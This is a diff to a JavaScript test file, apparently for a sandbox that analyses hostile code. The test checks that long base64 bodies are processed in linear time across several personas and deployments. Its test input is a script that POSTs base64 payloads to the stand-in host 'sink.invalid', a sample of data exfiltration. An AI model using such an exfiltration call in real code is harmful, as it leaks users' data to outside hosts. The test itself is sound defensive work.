@@ -240,7 +240,9 @@ describe('exhaustion', () => {
   it('lowers long unbroken base64 bodies without the watchdog stopping the sandbox (the lowering is linear in them)', () => {
     // Each body is one 64 KB base64 line: a search for line-wrapped base64 tried at every start inside it was quadratic.
     const r = hostile('const h = require("https"); for (let i = 0; i < 4; i++) h.request({ hostname: "sink.invalid", method: "POST" }).end("QUF" + i + "QUFB".repeat(16383));');
-    expect(r.runs.map((x) => [x.status, x.error])).toEqual([['done', undefined], ['done', undefined], ['done', undefined]]);
+    // (three personas, and the first twice more: its servers answering 503, and the network down: persona.ts Deployment)
+    expect(r.runs.map((x) => [x.status, x.error])).toEqual(Array.from({ length: 5 }, () => ['done', undefined]));
+    expect(r.runs.map((x) => x.deployment).filter(Boolean)).toEqual(['outage', 'offline']);
     expect(r.effects.filter((e) => e.kind === 'send').length).toBeGreaterThan(0);
   });
 
